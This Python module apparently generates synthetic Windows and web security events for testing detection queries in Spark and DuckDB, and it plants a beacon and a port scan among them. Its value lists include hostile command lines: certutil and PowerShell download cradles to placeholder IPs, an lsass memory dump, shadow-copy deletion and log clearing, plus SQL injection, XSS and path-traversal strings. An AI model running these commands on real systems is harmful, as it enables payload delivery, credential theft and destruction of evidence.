"""Security-event view of the given ``events`` table, for DataFrames and for SQL.

Each derived column picks from a list of values by arithmetic on the row's own numbers, so both
engines see the same rows and their number grows with the table.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

K = "CAST(regexp_extract(props, '([0-9]+)', 1) AS BIGINT)"

CODES = [1, 3, 10, 11, 13, 22, 104, 400, 1102, 4104, 4624, 4625, 4648, 4662, 4688, 4697, 4698, 4702, 4719, 4720, 4726, 4732, 4740, 4769, 4771, 4776, 5136, 5140, 5145, 5156, 7034, 7036, 7040, 7045, 2, 6, 8, 15, 17, 23, 25]
PROCESSES = ["cmd.exe", "powershell.exe", "svchost.exe", "w3wp.exe", "mimikatz.exe", "chrome.exe", "certutil.exe", "rundll32.exe", "net.exe", "explorer.exe", "mshta.exe"]
PARENTS = ["explorer.exe", "w3wp.exe", "services.exe", "winword.exe", "cmd.exe", "sqlservr.exe", "wininit.exe"]
COMMANDS = [
    "whoami /all", "cmd.exe /c echo hi | find x", "powershell.exe -nop -w hidden -enc SQBFAFgA", "certutil.exe -urlcache -f http://198.51.100.7/a.exe a.exe",
    "procdump.exe -accepteula -ma 588 lsass.dmp", "net.exe user bob /add", "schtasks.exe /create /tn x", "reg.exe add HKCU\\Run /v x", "notepad.exe report.txt",
    "wmic /node:host1 process call create calc", "powershell -c IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/p')", "ipconfig /all", "robocopy a b", "wevtutil cl Security",
    "rundll32.exe C:\\Users\\Public\\x.dll,go", "vssadmin delete shadows", "7z a -pSecret x.7z docs",
]
URIS = ["/index.html", "/shell.aspx", "/login.php", "/a/../../etc/passwd", "/img/logo.png", "/api/v1/items", "/cmd.aspx"]
QUERIES = ["", "id=1", "q=1 UNION SELECT pass", "cmd=whoami", "x=<script>alert(1)", "f=http://evil.example/x", "page=2"]
AGENTS = ["Mozilla/5.0", "sqlmap/1.6", "curl/8", "Nikto/2.1", "Mozilla/4.0"]
SERVICES = ["Spooler", "XFBRJVUPQBBNMSAPIGNN", "PSEXESVC", "WinDefend", "QWERTYUIOPASDFGH"]
KEYS = ["HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x", "HKLM\\System\\CurrentControlSet\\Services\\y", "HKCU\\Software\\App"]
FILES = ["C:\\Windows\\Temp\\evil.exe", "C:\\Users\\Public\\x.dll", "C:\\inetpub\\wwwroot\\shell.aspx", "C:\\Data\\report.docx", "C:\\Temp\\lsass.dmp", "C:\\Data\\a.locked"]
TARGETS = ["hacker", "bob", "Domain Admins", "Print Operators", "Users"]
ENCRYPTION = ["0x17", "0x12", "0x11"]
SHARES = ["\\\\*\\ADMIN$", "\\\\*\\C$", "\\\\*\\Public"]
MASKS = ["0x1010", "0x1410", "0x100000"]
IMAGES = ["C:\\Windows\\System32\\lsass.exe", "C:\\Windows\\notepad.exe"]
DOMAINS = ["google.com", "xkjhfwqemnbvq1.com", "a.example.org", "data.tunnel.net", "12345678901234x.net", "mail.corp.local"]
OUTSIDE = ["198.51.100.7", "203.0.113.9", "192.168.4.4", "10.1.1.1", "172.32.0.5"]

#: Column: (values, index); the index is an expression over event_id, user_id and k.
PICKS: dict[str, tuple[list, str]] = {
    "event_code": (CODES, "(event_id * 7 + k)"),
    "process_name": (PROCESSES, "(event_id + k)"),
    "parent_process_name": (PARENTS, "(event_id + user_id)"),
    "command_line": (COMMANDS, "(event_id * 3 + k)"),
    "uri": (URIS, "(event_id + user_id * 3)"),
    "query_string": (QUERIES, "(event_id * 5 + k)"),
    "user_agent": (AGENTS, "(user_id + k)"),
    "http_method": (["GET", "POST", "HEAD"], "event_id"),
    "status_code": ([200, 404, 401, 403, 500, 302], "(event_id + k * 5)"),
    "service_name": (SERVICES, "(event_id + user_id)"),
    "registry_key": (KEYS, "event_id"),
    "file_path": (FILES, "(event_id + k)"),
    "target_user": (TARGETS, "(event_id + k)"),
    "enc_type": (ENCRYPTION, "(event_id + user_id)"),
    "share_name": (SHARES, "(event_id + k)"),
    "granted_access": (MASKS, "event_id"),
    "target_image": (IMAGES, "k"),
    "query_name": (DOMAINS, "(event_id + user_id)"),
    "dest_ip": (OUTSIDE, "(event_id + k)"),
    "dest_port": ([445, 443, 80, 3389, 53, 8080, 22], "(event_id * 3 + user_id)"),
    "logon_type": ([3, 10, 2, 99], "(event_id + k)"),
    "severity": (["info", "low", "medium", "high", "critical"], "(event_id + user_id)"),
}
#: Column: an expression that both engines take.
PLAIN: dict[str, str] = {
    "row_id": "event_id",
    "timestamp_utc": "ts",
    "source_file": "concat('log', CAST(user_id % 5 AS VARCHAR(9)), '.parquet')",
    "source_system": "concat('host', CAST(user_id % 7 AS VARCHAR(9)))",
    "username": "concat('user', CAST(user_id AS VARCHAR(9)))",
    "event_type": "event_type",
    "value": "value",
    "k": "k",
    "user_id": "user_id",
    "source_ip": "concat('10.0.0.', CAST(user_id % 20 AS VARCHAR(9)))",
    "process_id": "(k * 4 + user_id) % 60",
    "parent_process_id": "(k * 3 + user_id * 5) % 60",
}


def security_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One row per row of ``events``; only the columns that a query uses are computed."""
    base = spark.read.parquet(f"{sf_dir}/events.parquet").withColumn("k", F.expr(K)).withColumn("ts", F.col("ts").cast("timestamp"))
    picks = [F.element_at(F.array(*[F.lit(v) for v in values]), F.expr(f"CAST({index} % {len(values)} + 1 AS INT)")).alias(name) for name, (values, index) in PICKS.items()]
    return base.select(*[F.expr(sql).alias(name) for name, sql in PLAIN.items()], *picks)


def _literal(v: object) -> str:
    return str(v) if isinstance(v, int) else "'" + str(v).replace("'", "''") + "'"


def _pick_sql(name: str) -> str:
    values, index = PICKS[name]
    return f"[{', '.join(map(_literal, values))}][CAST({index} % {len(values)} + 1 AS INT)] AS {name}"


#: ``sec`` for DuckDB, to stand behind WITH.
SEC = "sec AS (SELECT {} FROM (SELECT *, {} AS k FROM events))".format(", ".join([*(f"{sql} AS {name}" for name, sql in PLAIN.items()), *map(_pick_sql, PICKS)]), K)


#: The test events of a month are sparse; this view packs them into half a day, so that what happens within seconds occurs.
START, FASTER = 1_704_067_200_000_000, 60
DENSE = SEC.replace("(SELECT *, ", f"(SELECT * REPLACE (make_timestamp({START} + (epoch_us(ts) - {START}) // {FASTER}) AS ts), ")

#: A beacon, a port scan and their clock, planted among the events: column: (value of a beacon's row, of a scan's row).
PLANTS = {
    "source_ip": ("'10.0.0.250'", "'10.0.0.251'"),
    "dest_ip": ("'203.0.113.77'", "'10.1.1.9'"),
    "dest_port": ("8443", "CAST(row_id % 1000 AS INT)"),
    "process_name": ("'updater.exe'", "'scanner.exe'"),
}
CLOCK = "1704067200 + row_id * 60 + row_id % 3"
_CASE = "CASE row_id % 50 WHEN 7 THEN {} WHEN 8 THEN {} ELSE {} END"
PLANTED = SEC.replace("sec AS", "sec0 AS", 1) + ", sec AS (SELECT * REPLACE ({}, CASE WHEN row_id % 50 = 7 THEN make_timestamp(({}) * 1000000) ELSE timestamp_utc END AS timestamp_utc) FROM sec0)".format(", ".join(f"{_CASE.format(a, b, c)} AS {c}" for c, (a, b) in PLANTS.items()), CLOCK)


def dense_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``security_events`` at ``FASTER`` times the pace."""
    micros = F.unix_micros("timestamp_utc") - START
    return security_events(spark, sf_dir).withColumn("timestamp_utc", F.timestamp_micros((F.lit(START) + (micros - F.pmod(micros, F.lit(FASTER))) / FASTER).cast("long")))


def planted_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``security_events`` with a beacon of nearly equal intervals and a scan of many ports."""
    ev = security_events(spark, sf_dir)
    return ev.withColumns({c: F.expr(_CASE.format(a, b, c)) for c, (a, b) in PLANTS.items()} | {"timestamp_utc": F.expr(f"CASE WHEN row_id % 50 = 7 THEN timestamp_seconds({CLOCK}) ELSE timestamp_utc END")})


def page_hosts(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/pages.parquet")


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")
